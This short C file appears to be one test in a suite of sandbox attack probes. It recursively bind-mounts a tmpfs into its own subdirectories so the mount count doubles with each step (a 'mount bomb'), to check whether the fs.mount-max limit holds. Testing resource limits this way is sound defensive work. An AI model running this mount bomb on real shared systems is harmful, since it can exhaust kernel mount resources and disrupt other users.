/* Mounts over and over, each time twice as much (fs.mount-max; mount bombs). */
#include "common/attack.h"

static void attempt(void) {
    const char *place = mounted("tmpfs", NULL);
    int made = 0;
    for (int n = 0; place && n < 17; n++) {
        char path[128];
        snprintf(path, sizeof path, "%s/%d", place, n);
        mkdir(path, 0777);
        if (mount(place, path, NULL, MS_BIND | MS_REC, NULL) < 0) {
            printf("%s\n", strerror(errno));
            break;
        }
        made++;
    }
    printf("2^%d mounts\n", made);
    hold();
}
